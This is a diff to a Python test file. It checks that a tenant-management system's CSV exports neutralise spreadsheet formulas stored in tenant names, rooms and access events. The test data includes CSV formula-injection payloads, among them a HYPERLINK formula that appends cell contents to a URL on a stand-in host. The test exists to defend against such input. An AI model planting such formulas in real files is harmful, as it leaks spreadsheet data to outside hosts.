@@ -7,6 +7,7 @@ import csv
 import io
 import os
 import signal
+import sqlite3
 import subprocess
 import sys
 import time
@@ -153,10 +154,16 @@ def test_cells_a_spreadsheet_would_run_are_neutralised_in_both_exports(
 ) -> None:
     formulas = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+2", "-3+4", "@SUM(A1:A9)"]
     for n, text in enumerate(formulas):
-        store.add_tenant(TenantCreate(name=text, id_number=id_number(40 + n),
-                                      phone=f"1390000004{n}", room=text[:32],
-                                      valid_from=date(2026, 1, 1), valid_until=date(2027, 1, 1),
-                                      cards=(4000 + n,)))  # fmt: skip
+        added = store.add_tenant(TenantCreate(name=f"租客{n}", id_number=id_number(40 + n),
+                                 phone=f"1390000004{n}", room=f"{n}01",
+                                 valid_from=date(2026, 1, 1), valid_until=date(2027, 1, 1),
+                                 cards=(4000 + n,)))  # fmt: skip
+        # Entry refuses such names and rooms now (validation.py); a record stored before that
+        # rule, or from the city, still has them, and the export must not run them.
+        with sqlite3.connect(store.db_path) as db:
+            db.execute("INSERT OR IGNORE INTO rooms (room, created) VALUES (?, '')", (text[:32],))
+            db.execute("UPDATE tenants SET name = ?, room = ? WHERE id = ?",
+                       (text, text[:32], added.id))  # fmt: skip
     for n, room in enumerate([*formulas, "\t=1+1", "\r=1+1", "301"]):
         store.append_event({
             "type": "access.granted", "door": "main",
